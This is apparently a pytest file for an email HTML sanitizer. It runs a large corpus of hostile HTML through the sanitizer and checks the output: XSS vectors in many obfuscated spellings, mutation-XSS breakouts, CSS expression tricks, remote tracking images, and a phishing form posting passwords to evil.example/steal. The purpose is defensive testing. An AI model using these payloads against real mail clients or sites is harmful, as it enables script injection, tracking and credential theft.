"""Hostile HTML through app/mail/sanitize.py, and the framed body view that shows the result.

The corpus below is mail an attacker could send. Every entry goes through ``clean_html``
and the output is parsed with ``html.parser`` so the checks look at the markup a browser
would build (tags and attribute values with entities decoded), not at substrings that
happen to match. Substring checks on the raw output stay as a second line of defence.
"""

from __future__ import annotations

import html
import re
import subprocess
import sys
from email.message import EmailMessage
from email.policy import SMTP
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import select
from support import PASSWORD

from app.domain import ingest
from app.domain.passwords import hash_password
from app.extensions import db
from app.mail import sanitize
from app.mail.sanitize import BLOCKED_IMAGE, clean_html, text_to_html
from app.models import Message, User

EVIL = "http://evil.example"
SVG_SCRIPT_B64 = ("PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i"
                  "YWxlcnQoMSkiLz4=")
HTML_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="



# (id, hostile html)
CORPUS = [
    # --- <script> in many spellings ---------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case-src", f'<ScRiPt src="{EVIL}/x.js"></sCrIpT>'),
    ("script-attributes", '<script type="text/javascript" defer async>alert(1)</script>'),
    ("script-split-lines", '<script\ntype="text/javascript"\n>\nalert(1)\n</script\n>'),
    ("script-unclosed", "<p>hello<script>alert(1)"),
    ("script-unclosed-tag", f"<p>hello</p><script src={EVIL}/x.js"),
    ("script-slash-attribute", f'<script/src="{EVIL}/x.js"></script>'),
    ("script-in-svg", "<svg><script>alert(1)</script></svg>"),
    ("script-in-svg-xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>'),
    ("script-in-mathml", "<math><mtext><script>alert(1)</script></mtext></math>"),
    ("script-in-comment", "<!--<script>alert(1)</script>-->"),
    ("script-comment-breakout", "<!-- --!><script>alert(1)</script> -->"),
    ("script-conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("script-cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("script-svg-cdata", "<svg><![CDATA[</svg><script>alert(1)</script>]]></svg>"),
    ("script-nested-malformed", "<<script>script>alert(1)<</script>/script>"),
    ("script-reassembled-by-prepass",
     "<scr<script>x</script>ipt>alert(1)</scr<script>x</script>ipt>"),
    ("script-null-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-entity-in-name", "<scr&#105;pt>alert(1)</scr&#105;pt><&#115;cript>alert(2)"),
    ("script-in-noscript", "<noscript><script>alert(1)</script></noscript>"),
    ("script-in-attribute", '<a title="</a><script>alert(1)</script>" href="#">x</a>'),
    ("script-plaintext", "<plaintext><script>alert(1)</script>"),
    # --- inline event handlers --------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-broken-quotes", '<img src="x" onerror="alert(1)"onload=alert(2)>'),
    ("img-onerror-stray-quote", '<img src="x" " onerror="alert(1)">'),
    ("img-onerror-backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newlines", "<img\nsrc=x\nonerror\n=\nalert(1)\n>"),
    ("img-onerror-glued-to-alt", '<img alt="x"onerror="alert(1)"src=y>'),
    ("img-onerror-null-in-name", "<img src=x on\x00error=alert(1)>"),
    ("img-null-in-tag-name", "<img\x00 src=x onerror=alert(1)>"),
    ("img-onerror-self-closing-trick", "<img src=x onerror=alert(1)//>"),
    ("body-onload", '<body onload="alert(1)">hi</body>'),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
    ("div-onwheel-with-style", '<div style="color:red" onwheel=alert(1)>x</div>'),
    ("a-onclick", '<a href="https://example.com/" onclick="alert(1)">x</a>'),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-onbegin", "<svg><set attributeName=x onbegin=alert(1) to=1 /></svg>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("table-onpointerenter", "<table onpointerenter=alert(1)><tr><td>x</td></tr></table>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("isindex", '<isindex action="javascript:alert(1)" type=image onfocus=alert(2)>'),
    # --- javascript: and vbscript: URLs -----------------------------------------------
    ("js-href", '<a href="javascript:alert(1)">x</a>'),
    ("js-href-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("js-href-unquoted", "<a href=javascript:alert(1) onmouseover=alert(2)>x</a>"),
    ("js-href-decimal-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("js-href-entity-no-semicolon", '<a href="&#106avascript&#58alert(1)">x</a>'),
    ("js-href-hex-entities",
     '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">'
     "x</a>"),
    ("js-href-padded-entities", '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'),
    ("js-href-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("js-href-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("js-href-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("js-href-named-tab-newline", '<a href="jav&Tab;as&NewLine;cript:alert(1)">x</a>'),
    ("js-href-leading-control", '<a href=" \x01\x0fjavascript:alert(1)">x</a>'),
    ("js-href-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js-img-src", '<img src="javascript:alert(1)">'),
    ("js-form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("js-button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    ("js-input-formaction", "<input type=submit formaction=javascript:alert(1) value=go>"),
    ("js-svg-xlink-href",
     '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>'),
    ("js-svg-animate-href",
     "<svg><a><animate attributeName=href values=javascript:alert(1) />"
     "<text x=20 y=20>Click</text></a></svg>"),
    ("js-math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("js-math-xlink", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>"
                      "x</maction></math>"),
    ("js-table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("js-iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">x</a>'),
    ("vbscript-img-dynsrc", '<img dynsrc="vbscript:msgbox(1)" lowsrc="vbscript:msgbox(2)">'),
    ("livescript-href", '<a href="livescript:alert(1)">x</a>'),
    # --- data: URLs -------------------------------------------------------------------
    ("data-href-html", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'),
    ("data-href-base64", f'<a href="data:text/html;base64,{HTML_SCRIPT_B64}">x</a>'),
    ("data-href-mixed-case", '<a href="DaTa:text/html,hi">x</a>'),
    ("data-img-svg", f'<img src="data:image/svg+xml;base64,{SVG_SCRIPT_B64}">'),
    ("data-img-png", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("data-iframe-src", f'<iframe src="data:text/html;base64,{HTML_SCRIPT_B64}"></iframe>'),
    ("data-object", f'<object data="data:text/html;base64,{HTML_SCRIPT_B64}"></object>'),
    ("data-embed-svg", f'<embed src="data:image/svg+xml;base64,{SVG_SCRIPT_B64}">'),
    # --- SVG --------------------------------------------------------------------------
    ("svg-use-href", f'<svg><use href="data:image/svg+xml;base64,{SVG_SCRIPT_B64}#x"/></svg>'),
    ("svg-use-xlink-remote", f'<svg><use xlink:href="{EVIL}/s.svg#x"/></svg>'),
    ("svg-foreignobject",
     "<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
     "<img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg-image-remote", f'<svg><image href="{EVIL}/t.png"/></svg>'),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    # --- CSS --------------------------------------------------------------------------
    ("css-expression", '<p style="width: expression(alert(1))">x</p>'),
    ("css-expression-escaped", r'<p style="width: \65xpression(alert(1))">x</p>'),
    ("css-expression-comment", '<p style="width: exp/**/ression(alert(1))">x</p>'),
    ("css-moz-binding", f'<p style="-moz-binding: url({EVIL}/x.xml#xss)">x</p>'),
    ("css-behavior", '<p style="color:red; behavior: url(x.htc)">x</p>'),
    ("css-url-javascript", '<p style="background-image: url(javascript:alert(1))">x</p>'),
    ("css-url-in-allowed-property", f'<p style="color: url({EVIL}/t.png)">x</p>'),
    ("css-url-escaped-in-allowed-property",
     r'<p style="border: 1px solid u\72l(http://evil.example/t.png)">x</p>'),
    ("css-import-in-attribute", f"<p style=\"@import '{EVIL}/x.css'; color:red\">x</p>"),
    ("css-style-block-import", f"<style>@import url({EVIL}/x.css);</style><p>x</p>"),
    ("css-style-block-remote", f"<style>body{{background:url({EVIL}/t.png)}}</style>x"),
    ("css-style-unclosed", f"<style>*{{background:url({EVIL}/t.png)}}<p>x</p>"),
    ("css-background-remote", f'<div style="background:url({EVIL}/t.png)">x</div>'),
    ("css-background-image-remote",
     "<div style=\"background-image:url('https://evil.example/t.png')\">x</div>"),
    ("css-list-style-image", f'<ul style="list-style-image:url({EVIL}/t.png)"><li>x</li></ul>'),
    ("css-position-fixed-overlay",
     '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">'
     "Your session expired, sign in again</div>"),
    ("css-link-stylesheet", f'<link rel=stylesheet href="{EVIL}/x.css"><p>x</p>'),
    ("css-link-import", f'<link rel=import href="{EVIL}/x.html"><p>x</p>'),
    ("css-link-prefetch", f"<link rel=prefetch href={EVIL}/>"),
    # --- base, forms, meta ------------------------------------------------------------
    ("base-href", f'<base href="{EVIL}/"><a href="x">x</a>'),
    ("base-target-js", '<base target="_top" href="javascript:/">'),
    ("form-phishing",
     f'<form action="{EVIL}/steal" method=post><input name=pw type=password>'
     "<button>Sign in</button></form>"),
    ("form-select-textarea", "<form><select><option>a</option></select><textarea>t</textarea>"
                             "<input type=hidden name=x value=y></form>"),
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-remote", f'<meta http-equiv="refresh" content="0; url={EVIL}/">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="session=x">'),
    ("meta-csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">"),
    # --- frames, objects, plugins -----------------------------------------------------
    ("iframe-remote", f'<iframe src="{EVIL}/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
    ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-flash",
     f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash">'
     "<param name=allowScriptAccess value=always></object>"),
    ("object-scriptlet", f'<object type="text/x-scriptlet" data="{EVIL}/x.sct"></object>'),
    ("embed-remote", f'<embed src="{EVIL}/x.swf">'),
    ("applet", f'<applet code="Evil.class" codebase="{EVIL}/"></applet>'),
    ("bgsound-layer", f'<bgsound src="{EVIL}/x.wav"><layer src="{EVIL}/x.html"></layer>'),
    # --- remote resources -------------------------------------------------------------
    ("remote-img-http", f'<img src="{EVIL}/t.png">'),
    ("remote-img-https", '<img src="https://evil.example/t.png" width=1 height=1>'),
    ("remote-img-upper-scheme", '<IMG SRC="HTTP://evil.example/t.png">'),
    ("remote-img-entity-scheme", '<img src="&#104;ttp://evil.example/t.png">'),
    ("remote-img-protocol-relative", '<img src="//evil.example/t.png">'),
    ("remote-img-backslashes", '<img src="\\\\evil.example\\t.png">'),
    ("remote-img-unquoted", "<img src=http://evil.example/t.png>"),
    ("remote-img-srcset", f'<img srcset="{EVIL}/t.png 1x, {EVIL}/u.png 2x">'),
    ("remote-img-src-and-srcset", f'<img src="https://evil.example/a.png" srcset="{EVIL}/b 1x">'),
    ("remote-img-lowsrc", f'<img lowsrc="{EVIL}/t.png" dynsrc="{EVIL}/t.avi">'),
    ("remote-picture-source",
     f'<picture><source srcset="{EVIL}/t.png"><img src="https://evil.example/u.png"></picture>'),
    ("remote-video-poster", f'<video poster="{EVIL}/t.png"></video>'),
    ("remote-input-image", f'<input type=image src="{EVIL}/t.png">'),
    ("remote-table-background",
     f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/u.png">x</td></tr></table>'),
    ("remote-body-background", f'<body background="{EVIL}/t.png">x</body>'),
    ("remote-a-ping", f'<a href="https://example.com/" ping="{EVIL}/track">x</a>'),
    ("remote-blockquote-cite", f'<blockquote cite="{EVIL}/c">q</blockquote>'),
    # --- raw-text elements and mXSS ---------------------------------------------------
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("template-unclosed", "<template><img src=x onerror=alert(1)>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("noscript-style-mxss", "<noscript><style></noscript><img src=x onerror=alert(1)></style>"),
    ("textarea-breakout", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">'),
    ("textarea-script", "<textarea></textarea><script>alert(1)</script></textarea>"),
    ("title-breakout", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("xmp-breakout", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("noembed-breakout", '<noembed><img title="</noembed><img src=x onerror=alert(1)>">'),
    ("iframe-rawtext-breakout", '<iframe><img title="</iframe><img src=x onerror=alert(1)>">'),
    ("math-mglyph-style-mxss",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("form-math-mxss",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("select-template-mxss", "<select><template><style><img src=x onerror=alert(1)>"),
]


CORPUS_IDS = [entry_id for entry_id, _ in CORPUS]
CORPUS_BODIES = [body for _, body in CORPUS]


# --- looking at the output as a browser would ------------------------------------------


class _Markup(HTMLParser):
    """Every start tag with its attributes (names lower-cased, values entity-decoded)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.leftovers: list[str] = []  # comments, CDATA, processing instructions, doctypes

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data):
        self.leftovers.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.leftovers.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.leftovers.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.leftovers.append(f"<?{data}>")


def parse(output: str) -> _Markup:
    markup = _Markup()
    markup.feed(output)
    markup.close()
    return markup


FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "select", "option", "meta", "base", "link", "svg", "math", "template",
    "textarea", "title", "noscript", "xmp", "plaintext", "noembed", "isindex", "keygen",
    "marquee", "details", "video", "audio", "source", "picture", "param", "bgsound", "layer",
    "image", "use", "foreignobject", "animate", "set", "body", "html", "head",
}
FORBIDDEN_ATTRIBUTES = {
    "srcset", "ping", "formaction", "xlink:href", "background", "action", "poster", "dynsrc",
    "lowsrc", "http-equiv", "srcdoc", "autofocus", "data", "code", "codebase", "archive",
    "cite", "content",
}
URL_ATTRIBUTES = {
    "src", "href", "poster", "background", "srcset", "data", "action", "formaction", "cite",
    "longdesc", "lowsrc", "dynsrc", "usemap", "xlink:href", "codebase", "archive", "ping",
    "manifest", "icon", "profile",
}
LINK_SCHEMES = {"http", "https", "mailto", "cid"}
CSS_HAZARDS = ("expression(", "-moz-binding", "behavior", "url(", "@import", "javascript:",
               "vbscript:", "position", "image-set(", "binding")
URL_HAZARDS = ("javascript:", "vbscript:", "livescript:", "data:")
REMOTE = re.compile(r"^(?:https?:|ftp:|//|\\\\|/\\|\\/)", re.IGNORECASE)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)", re.DOTALL)
#: a start tag in serialized output, honouring quoted attribute values
_TAG = re.compile(r"<[a-zA-Z][^\s/>]*(?:\"[^\"]*\"|'[^']*'|[^'\">])*>")


def followable(href: str | None) -> bool:
    """A link a reader can follow from the framed body: what stays a link."""
    url = url_form(href or "")
    return url.startswith("#") or bool(re.match(r"(https?|mailto):", url))


def url_form(value: str) -> str:
    """What a browser makes of a URL: controls, spaces, tabs and newlines gone, any case."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def css_form(value: str) -> str:
    """A style value with CSS escapes decoded, comments and white space removed."""
    def unescape(match):
        if match.group(1):
            code = int(match.group(1), 16)
            return chr(code) if 0 < code <= 0x10FFFF else "\ufffd"
        return match.group(2)

    decoded = _CSS_ESCAPE.sub(unescape, value)
    decoded = re.sub(r"/\*.*?\*/", "", decoded, flags=re.DOTALL)
    return re.sub(r"\s+", "", decoded).lower()


def allowed_attributes(tag: str) -> set[str]:
    names = {*sanitize.ATTRIBUTES["*"], *sanitize.ATTRIBUTES.get(tag, [])}
    if tag == "a":
        names |= {"target", "rel"}
    if tag == "img":
        names.add("title")
    return names


def hazards(output: str, *, allow_remote: bool = False, local_images=()) -> list[str]:
    """Everything dangerous in ``output``; empty when it is safe to show.

    Unless ``allow_remote``, an image may only show the placeholder, nothing, or one of
    ``local_images`` (what a ``cid_url`` callback gave).
    """
    found = []
    markup = parse(output)
    for leftover in markup.leftovers:
        found.append(f"comment or declaration survived: {leftover!r}")
    for tag, attributes in markup.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden tag <{tag}>")
        if tag not in sanitize.TAGS:
            found.append(f"tag outside the allowlist <{tag}>")
        for name, value in attributes.items():
            where = f"<{tag} {name}={value!r}>"
            if name.startswith("on"):
                found.append(f"event handler {where}")
            if name in FORBIDDEN_ATTRIBUTES:
                found.append(f"forbidden attribute {where}")
            if name not in allowed_attributes(tag):
                found.append(f"attribute outside the allowlist {where}")
            url = url_form(value)
            for hazard in URL_HAZARDS:
                if hazard in url:
                    found.append(f"{hazard} in attribute {where}")
            if name == "style":
                css = css_form(value)
                for hazard in CSS_HAZARDS:
                    if hazard in css:
                        found.append(f"{hazard} in style {where}")
            if name == "href" and tag == "a":
                scheme = _SCHEME.match(url)
                if scheme and scheme.group(1) not in LINK_SCHEMES:
                    found.append(f"link scheme {scheme.group(1)!r} {where}")
            elif name in URL_ATTRIBUTES and REMOTE.match(url) and not allow_remote:
                found.append(f"remote resource {where}")
        if tag == "img" and not allow_remote and attributes.get("src", "") not in (
                "", BLOCKED_IMAGE, *local_images):
            found.append(f"image not replaced by the placeholder: <img {attributes}>")
        if tag == "a" and "href" in attributes and (
                attributes.get("target") != "_blank"
                or attributes.get("rel") != "noopener noreferrer"):
            found.append(f"link that does not open outside without referrer <a {attributes}>")
        if tag == "a" and not followable(attributes.get("href")) and "name" not in attributes:
            found.append(f"link that leads nowhere yet looks like one <a {attributes}>")
        if tag == "a" and "href" not in attributes and set(attributes) - {
                "name", "dir", "lang"}:
            found.append(f"anchor with a link's style or target <a {attributes}>")

    # Second line of defence: substrings of the raw output, in case the parser and a
    # browser disagree. Text never holds a raw "<" (it is escaped), so "<x" is markup.
    lowered = output.lower()
    for tag in sorted(FORBIDDEN_TAGS - {"set", "use", "image", "body", "html", "head"}):
        if re.search(rf"<\s*/?\s*{tag}(?![a-z0-9])", lowered):
            found.append(f"raw '<{tag}' in output")
    for raw_tag in _TAG.findall(output):
        unquoted = re.sub(r"\"[^\"]*\"|'[^']*'", '""', raw_tag)
        if re.search(r"[\s/\"']on\w*\s*=", unquoted, re.IGNORECASE):
            found.append(f"raw event handler in {raw_tag!r}")
        if re.search(r"[\s/\"'](srcset|ping|formaction|xlink:href|background)\s*=", unquoted,
                     re.IGNORECASE):
            found.append(f"raw forbidden attribute in {raw_tag!r}")
        decoded = url_form(html.unescape(raw_tag))
        for hazard in (*URL_HAZARDS, "expression(", "-moz-binding", "behavior:", "url("):
            if hazard in decoded:
                found.append(f"raw {hazard!r} in {raw_tag!r}")
        if not allow_remote and raw_tag.lower().startswith("<img") and re.search(
                r"\ssrc\s*=\s*[\"']?\s*(?:https?:|//)", decoded):
            found.append(f"raw remote image in {raw_tag!r}")
    return found


# --- the corpus --------------------------------------------------------------------------


def test_corpus_is_large_and_ids_are_unique():
    assert len(CORPUS) >= 60
    assert len(CORPUS_IDS) == len(set(CORPUS_IDS))


@pytest.mark.parametrize("body", CORPUS_BODIES, ids=CORPUS_IDS)
def test_hostile_html_is_defused(body):
    output, _ = clean_html(body)
    assert hazards(output) == [], f"{body!r} -> {output!r}"


@pytest.mark.parametrize("body", CORPUS_BODIES, ids=CORPUS_IDS)
def test_hostile_html_is_defused_with_remote_images_allowed(body):
    output, _ = clean_html(body, allow_remote=True)
    assert hazards(output, allow_remote=True) == [], f"{body!r} -> {output!r}"


def test_the_checker_itself_catches_what_it_should():
    """The checks would fail on unsanitized input: they are not vacuous."""
    assert hazards("<script>alert(1)</script>")
    assert hazards("<img src=x onerror=alert(1)>")
    assert hazards('<a href="jav&#x09;ascript:alert(1)" target=_blank '
                   'rel="noopener noreferrer">x</a>')
    assert hazards('<p style="width:\\65xpression(alert(1))">x</p>')
    assert hazards('<img src="https://evil.example/t.png">')
    assert hazards('<table background="https://evil.example/t.png"></table>')
    assert hazards("<!--[if IE]>x<![endif]-->")
    assert hazards('<a style="text-decoration:underline">x</a>')  # a link's look, no link
    assert hazards('<a name="x" target="_blank">x</a>')
    assert not hazards('<img src="https://evil.example/t.png">', allow_remote=True)
    assert not hazards(f'<p style="color:red;">x</p><img src="{BLOCKED_IMAGE}">')


def test_many_unclosed_raw_text_openings_do_not_hang_the_cleaner():
    """A body of 20,000 unclosed "<style>" (140 KB) must not hold a worker for minutes.

    bleach needs a fraction of a second for it; the quadratic rewrite this guards against
    took minutes. The limit is a guard against hanging, not a speed measure (speed is
    for bench/), so it is wide enough for a loaded machine. It runs in a child process so
    that a slow regular expression can be stopped.
    """
    subprocess.run(
        [sys.executable, "-c",
         "from app.mail.sanitize import clean_html; clean_html('<style>' * 20000)"],
        cwd=Path(__file__).resolve().parents[2], check=True, timeout=60,
        capture_output=True)


# --- focused behaviour -------------------------------------------------------------------


@pytest.mark.parametrize("body", [
    "<img src=\"http://evil.example/t.png\">",
    "<p>Hi <img src='https://evil.example/t.png' alt=pixel></p>",
    "<img src=//evil.example/t.png>",
])
def test_remote_images_are_reported_and_replaced(body):
    output, had_remote = clean_html(body)
    assert had_remote is True
    images = [attrs for tag, attrs in parse(output).tags if tag == "img"]
    assert images and all(attrs["src"] == BLOCKED_IMAGE for attrs in images)
    assert all(attrs.get("title") == "Remote image blocked" for attrs in images)
    assert "evil.example" not in output


@pytest.mark.parametrize("body", [
    "<p>No images here.</p>",
    '<a href="https://example.com/">a link is not an image</a>',
    '<img src="cid:logo@acme.test">',
    '<img srcset="http://evil.example/t.png 1x">',
    '<div style="background:url(http://evil.example/t.png)">x</div>',
    "<p>plain text mentioning http://evil.example/t.png</p>",
])
def test_no_remote_images_reported_when_there_are_none(body):
    assert clean_html(body)[1] is False


def test_allow_remote_keeps_the_remote_source_and_nothing_else():
    body = ('<p>Logo <img src="https://cdn.example.com/logo.png" alt="Logo" '
            'onerror="alert(1)" srcset="http://evil.example/x 2x"></p>'
            '<script>alert(1)</script><a href="javascript:alert(1)">x</a>')
    output, had_remote = clean_html(body, allow_remote=True)
    assert had_remote is True
    images = [attrs for tag, attrs in parse(output).tags if tag == "img"]
    assert images == [{"src": "https://cdn.example.com/logo.png", "alt": "Logo"}]
    assert hazards(output, allow_remote=True) == []
    assert BLOCKED_IMAGE not in output


def test_cid_images_are_rewritten_through_the_callback():
    asked = []

    def cid_url(content_id):
        asked.append(content_id)
        return f"/inbox/abc/cid/{content_id}" if content_id == "logo@acme.test" else None

    output, had_remote = clean_html(
        '<img src="cid:logo@acme.test" alt=a><img src="CID:<logo@acme.test>" alt=b>'
        '<img src="cid:missing@acme.test" alt=c>', cid_url=cid_url)
    assert asked == ["logo@acme.test", "logo@acme.test", "missing@acme.test"]
    images = [attrs for tag, attrs in parse(output).tags if tag == "img"]
    assert images == [
        {"src": "/inbox/abc/cid/logo@acme.test", "alt": "a"},
        {"src": "/inbox/abc/cid/logo@acme.test", "alt": "b"},
        {"alt": "c"},
    ]
    assert had_remote is False
    assert hazards(output, local_images={"/inbox/abc/cid/logo@acme.test"}) == []


def test_cid_images_are_dropped_by_default():
    output, had_remote = clean_html('<img src="cid:logo@acme.test" alt="logo">')
    assert parse(output).tags == [("img", {"alt": "logo"})]
    assert had_remote is False


@pytest.mark.parametrize("body", [
    '<a href="https://example.com/page">x</a>',
    '<a href="http://example.com/" target="_self" rel="opener">x</a>',
    '<a href="mailto:pat@partner.test" target="_top">x</a>',
])
def test_links_open_outside_without_referrer(body):
    output, _ = clean_html(body)
    links = [attrs for tag, attrs in parse(output).tags if tag == "a"]
    assert len(links) == 1
    assert links[0]["target"] == "_blank"
    assert links[0]["rel"] == "noopener noreferrer"


#: links whose address is not one to follow, each spelt as attackers and odd mailers do
UNFOLLOWABLE_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
    "jav\tascript:alert(1)", "java\nscript:alert(1)", "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#106avascript&#58alert(1)",
    "javascript&colon;alert(1)", "\x01javascript:alert(1)", "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "DaTa:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "ftp://files.example/x",
    "jar:https://x.example/a!/b", "view-source:https://x.example/", "intent://x#Intent;end",
    "ms-settings:", "cid:part@x", "relative/path.html", "/inbox/1", "", "   ",
]


@pytest.mark.parametrize("href", UNFOLLOWABLE_LINKS)
def test_a_link_that_leads_nowhere_is_plain_text(href):
    """The sanitizer took its address away (or it never led anywhere a reader can go
    from the frame): what is left must not look clickable, whatever its own style."""
    body = (f'<p>Please <a href="{href}" class="button" target="_top" '
            f'style="color:#00f;text-decoration:underline;cursor:pointer">'
            f"confirm <b>here</b></a> today.</p>")
    output, _ = clean_html(body)
    assert output == (f'<p>Please <span title="{sanitize.LINK_REMOVED}">confirm '
                      f"<b>here</b></span> today.</p>"), href
    assert hazards(output) == []


@pytest.mark.parametrize("href", ["https://example.com/a", "HTTP://EXAMPLE.COM",
                                  "mailto:pat@partner.test", "#section-2"])
def test_a_link_a_reader_can_follow_stays_one(href):
    output, _ = clean_html(f'<a href="{href}" style="color:red">x</a>')
    (link,) = [attrs for tag, attrs in parse(output).tags if tag == "a"]
    assert link["href"] == href and link["style"] == "color:red;"


def test_a_named_anchor_stays_a_place_without_the_look_of_a_link():
    output, _ = clean_html('<a name="top" style="text-decoration:underline">Top</a>'
                           '<a href="#top">back</a>')
    assert output.startswith('<a name="top">Top</a><a href="#top" ')


def test_nested_and_unclosed_links_close_as_they_opened():
    output, _ = clean_html('<a href="javascript:x">one <a href="https://ok.example/">two'
                           '</a> three</a><a href="vbscript:y">four')
    assert hazards(output) == []
    assert output.count("<span") == output.count("</span>")
    assert output.count("<a ") == output.count("</a>") == 1


def test_benign_formatting_survives():
    body = ('<table border="1" cellpadding="4"><thead><tr><th>Item</th><th>Total</th></tr>'
            '</thead><tbody><tr><td bgcolor="#eeeeee">Widgets</td><td align="right">42</td>'
            "</tr></tbody></table>"
            '<p style="color:red">Red <b>bold</b> <strong>strong</strong> <i>it</i> <u>u</u></p>'
            '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>'
            '<font color="#336699" face="Arial" size="2">Font</font>'
            "<blockquote>quoted</blockquote><pre>pre</pre><h2>Heading</h2><hr><br>")
    output, had_remote = clean_html(body)
    tags = parse(output).tags
    names = [tag for tag, _ in tags]
    for expected in ("table", "thead", "tbody", "tr", "th", "td", "p", "b", "strong", "i",
                     "u", "ul", "li", "ol", "font", "blockquote", "pre", "h2", "hr", "br"):
        assert expected in names, expected
    attributes = dict(tags)
    assert css_form(attributes["p"]["style"]).rstrip(";") == "color:red"
    assert attributes["font"] == {"color": "#336699", "face": "Arial", "size": "2"}
    assert attributes["table"] == {"border": "1", "cellpadding": "4"}
    assert attributes["ol"] == {"start": "3"}
    assert "Widgets" in output and "42" in output
    assert had_remote is False
    assert hazards(output) == []


def test_text_to_html_escapes_markup():
    output = text_to_html("<script>alert(1)</script>\n<img src=x onerror=alert(1)>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert "<script" not in output.lower()
    assert "<img" not in output.lower()
    assert parse(output).tags == []


def test_text_to_html_links_urls_without_double_escaping():
    url = "https://example.com/a?b=1&c=2"
    output = text_to_html(f"See {url} today.")
    links = [attrs for tag, attrs in parse(output).tags if tag == "a"]
    assert len(links) == 1
    assert links[0]["href"] == url
    assert links[0]["rel"] == "noopener noreferrer"
    assert links[0]["target"] == "_blank"
    assert "&amp;amp;" not in output
    assert f">{html.escape(url, quote=False)}</a>" in output
    assert hazards(output) == []


